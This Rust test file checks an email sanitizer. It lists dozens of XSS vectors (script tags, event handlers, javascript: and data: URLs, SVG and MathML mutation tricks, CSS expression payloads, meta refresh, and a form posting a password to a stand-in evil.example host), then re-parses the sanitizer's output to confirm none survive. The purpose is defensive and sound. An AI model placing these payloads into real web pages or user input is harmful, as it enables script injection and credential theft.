//! Hostile HTML through the sanitizer: the *output DOM* is parsed again with an
//! HTML parser and walked; nothing executable, no forbidden element, no
//! dangerous URL or CSS may survive, in storage or in render mode.

use hirewire_mail::{IMAGE_PLACEHOLDER, render_html, sanitize_for_storage, text_to_html};
use scraper::Html;

const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://img.example/a.png\" onload=\"alert(1)\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=\"jav\tascript:alert(1)\">",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src=\" &#14;  javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">entity</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">hex entity</a>",
    "<a href=\"jav&NewLine;ascript&colon;alert(1)\">named entities</a>",
    "<a href=\"  JAVASCRIPT:alert(1)\">upper</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<a href=\"data:image/png;base64,iVBORw0KGgo=\">png link</a>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert(1)\">CLICK</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<div style=\"width: expression(alert(1))\">ie</div>",
    "<div style=\"background-image: url(javascript:alert(1))\">bg</div>",
    "<div style=\"background: url('https://tracker.example/p.gif')\">tracker</div>",
    "<div style=\"behavior: url(x.htc)\">htc</div>",
    "<div style=\"-moz-binding: url(x.xml#xss)\">xbl</div>",
    "<div style=\"wid\\74h: expr\\65ssion(alert(1))\">escaped</div>",
    "<div style=\"color: red; wi/**/dth: expre/**/ssion(alert(1))\">comments</div>",
    "<p style=\"color:red;font-weight:bold\">ok style</p>",
    "<base href=\"https://evil.example/\"><a href=\"x\">rel</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<form action=\"https://evil.example/steal\"><input name=p type=password><button>go</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<applet code=\"x.class\"></applet>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<table background=\"javascript:alert(1)\"><tr><td>t</td></tr></table>",
    "<div onmouseover=\"alert(1)\" ONCLICK=alert(2)>hover</div>",
    "<a href=\"https://ok.example/\" target=\"_top\" rel=\"opener\">ok link</a>",
    "<a href=\"//evil.example/protocol-relative\">pr</a>",
    "<img srcset=\"https://evil.example/a.png 1x\" src=\"https://img.example/b.png\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div id=\"x\" class=\"y\" data-foo=\"javascript:alert(1)\">data-attr</div>",
    "<a href=\"https://ok.example\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</a>",
    "<isindex action=javascript:alert(1) type=image>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<img src=\"cid:logo@acme.io\" alt=\"logo\">",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"inline\">",
    "\u{0}<scr\u{0}ipt>alert(1)</script>",
];

const ALLOWED_ELEMENTS: &[&str] = &[
    "html",
    "head",
    "body",
    "a",
    "abbr",
    "acronym",
    "area",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "map",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "rtc",
    "ruby",
    "s",
    "samp",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];

const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "background",
    "poster",
    "xlink:href",
    "srcset",
    "cite",
    "data",
    "codebase",
    "dynsrc",
    "lowsrc",
    "longdesc",
    "usemap",
    "ping",
    "manifest",
    "content",
];

/// How a browser reads a URL attribute: tabs/newlines removed, controls and spaces trimmed, lowercased.
fn url_view(v: &str) -> String {
    v.chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect::<String>()
        .trim_matches(|c: char| c <= ' ')
        .to_ascii_lowercase()
}

/// Walks the output DOM; returns a list of violations.
/// The output is parsed twice: as a body fragment (where it is shown) and as a
/// whole document (so `<frameset>`, `<body onload>` and `<head>` tricks show too).
fn violations(output: &str, remote_images_allowed: bool) -> Vec<String> {
    let mut bad = Vec::new();
    for dom in [Html::parse_fragment(output), Html::parse_document(output)] {
        walk(&dom, remote_images_allowed, &mut bad);
    }
    bad
}

fn walk(dom: &Html, remote_images_allowed: bool, bad: &mut Vec<String>) {
    for node in dom.tree.nodes() {
        let Some(el) = node.value().as_element() else {
            continue;
        };
        let name = el.name().to_ascii_lowercase();
        if !ALLOWED_ELEMENTS.contains(&name.as_str()) {
            bad.push(format!("element <{name}>"));
        }
        let mut rel = None;
        for (attr, value) in el.attrs() {
            let attr = attr.to_ascii_lowercase();
            if attr.starts_with("on") {
                bad.push(format!("event handler {attr} on <{name}>"));
            }
            if matches!(
                attr.as_str(),
                "srcdoc" | "formaction" | "action" | "http-equiv" | "srcset" | "id" | "class"
            ) {
                bad.push(format!("attribute {attr} on <{name}>"));
            }
            if attr == "rel" {
                rel = Some(value.to_string());
            }
            if URL_ATTRIBUTES.contains(&attr.as_str()) {
                let v = url_view(value);
                let scheme_ok = ["https:", "http:", "mailto:", "tel:", "cid:"]
                    .iter()
                    .any(|s| v.starts_with(s));
                let inline_image = name == "img"
                    && attr == "src"
                    && [
                        "data:image/png;",
                        "data:image/gif;",
                        "data:image/jpeg;",
                        "data:image/webp;",
                    ]
                    .iter()
                    .any(|p| v.starts_with(p));
                if !(scheme_ok || inline_image) {
                    bad.push(format!("url {attr}={value:?} on <{name}>"));
                }
                if name == "img"
                    && attr == "src"
                    && !remote_images_allowed
                    && (v.starts_with("http:") || v.starts_with("https:"))
                {
                    bad.push(format!("remote image {value:?} in render mode"));
                }
            }
            if attr == "style" {
                let s = value.to_ascii_lowercase();
                for needle in [
                    "expression",
                    "url(",
                    "javascript",
                    "behavior",
                    "binding",
                    "\\",
                    "/*",
                    "@import",
                    "position",
                ] {
                    if s.contains(needle) {
                        bad.push(format!("style {value:?} contains {needle}"));
                    }
                }
            }
            if attr == "target" && value != "_blank" {
                bad.push(format!("target={value:?}"));
            }
        }
        if name == "a" {
            let rel = rel.unwrap_or_default();
            if !(rel.split_whitespace().any(|r| r == "noopener")
                && rel.split_whitespace().any(|r| r == "noreferrer"))
            {
                bad.push(format!("link without rel=noopener noreferrer: {rel:?}"));
            }
            if rel.split_whitespace().any(|r| r == "opener") {
                bad.push("rel=opener".into());
            }
        }
    }
}

#[test]
fn nothing_executable_survives_storage_sanitizing() {
    let mut failures = Vec::new();
    for v in VECTORS {
        let out = sanitize_for_storage(v);
        for problem in violations(&out, true) {
            failures.push(format!("{v:?}\n  -> {out:?}\n  : {problem}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn nothing_executable_survives_render_and_remote_images_are_blocked() {
    let mut failures = Vec::new();
    let all = VECTORS.concat();
    for v in VECTORS.iter().copied().chain([all.as_str()]) {
        // Render both the stored form and the raw form (render must not trust its input).
        for input in [sanitize_for_storage(v), v.to_string()] {
            let out = render_html(&input, false).html;
            for problem in violations(&out, false) {
                failures.push(format!("{v:?}\n  -> {out:?}\n  : {problem}"));
            }
            let shown = render_html(&input, true).html;
            for problem in violations(&shown, true) {
                failures.push(format!(
                    "{v:?} (show images)\n  -> {shown:?}\n  : {problem}"
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

fn img_srcs(html: &str) -> Vec<String> {
    let dom = Html::parse_fragment(html);
    dom.tree
        .nodes()
        .filter_map(|n| n.value().as_element())
        .filter(|e| e.name() == "img")
        .filter_map(|e| e.attr("src").map(str::to_string))
        .collect()
}

#[test]
fn storage_keeps_useful_content_and_remote_image_urls() {
    let html = "<p style=\"color:red\">Hi <b>Jane</b></p><img src=\"https://img.example/a.png\" alt=\"a\"><img src=\"cid:logo@x\"><img src=\"data:image/png;base64,iVBORw0KGgo=\"><a href=\"https://ok.example/job\">job</a>";
    let stored = sanitize_for_storage(html);
    assert_eq!(
        img_srcs(&stored),
        [
            "https://img.example/a.png",
            "cid:logo@x",
            "data:image/png;base64,iVBORw0KGgo="
        ]
    );
    let dom = Html::parse_fragment(&stored);
    let a = dom
        .tree
        .nodes()
        .filter_map(|n| n.value().as_element())
        .find(|e| e.name() == "a")
        .unwrap();
    assert_eq!(a.attr("href"), Some("https://ok.example/job"));
    assert_eq!(a.attr("rel"), Some("noopener noreferrer"));
    assert_eq!(a.attr("target"), Some("_blank"));
    let p = dom
        .tree
        .nodes()
        .filter_map(|n| n.value().as_element())
        .find(|e| e.name() == "p")
        .unwrap();
    assert_eq!(p.attr("style"), Some("color:red"));

    let blocked = render_html(&stored, false);
    assert_eq!(blocked.blocked_remote_images, 1);
    assert_eq!(
        img_srcs(&blocked.html),
        [
            IMAGE_PLACEHOLDER,
            "cid:logo@x",
            "data:image/png;base64,iVBORw0KGgo="
        ]
    );
    let shown = render_html(&stored, true);
    assert_eq!(shown.blocked_remote_images, 0);
    assert_eq!(img_srcs(&shown.html), img_srcs(&stored));
}

#[test]
fn text_to_html_escapes_everything_and_links_urls() {
    let text = "Hi <script>alert(1)</script> & \"you\"\nsee https://jobs.example/a?b=1&c=<2>. javascript:alert(1)\n<img src=x onerror=alert(1)>";
    let html = text_to_html(text);
    assert!(violations(&html, false).is_empty(), "{html}");
    let dom = Html::parse_fragment(&html);
    let names: Vec<String> = dom
        .tree
        .nodes()
        .filter_map(|n| n.value().as_element())
        .map(|e| e.name().to_string())
        .collect();
    assert!(
        names
            .iter()
            .all(|n| ["html", "body", "div", "br", "a"].contains(&n.as_str())),
        "{names:?}"
    );
    let a = dom
        .tree
        .nodes()
        .filter_map(|n| n.value().as_element())
        .find(|e| e.name() == "a")
        .unwrap();
    assert_eq!(a.attr("href"), Some("https://jobs.example/a?b=1&c="));
    let text_back: String = dom.root_element().text().collect();
    assert!(
        text_back.contains("<script>alert(1)</script>"),
        "{text_back}"
    );
}

/// The checker itself must see the danger in the raw vectors, or the tests above prove nothing.
#[test]
fn the_dom_checker_flags_the_raw_vectors() {
    let benign = [
        "<p style=\"color:red;font-weight:bold\">ok style</p>",
        "<img src=\"cid:logo@acme.io\" alt=\"logo\">",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"inline\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<!--<script>alert(1)</script>-->",
    ];
    let unflagged: Vec<&str> = VECTORS
        .iter()
        .copied()
        .filter(|v| !benign.contains(v))
        .filter(|v| violations(v, false).is_empty())
        .collect();
    assert!(unflagged.is_empty(), "the checker misses: {unflagged:#?}");
}
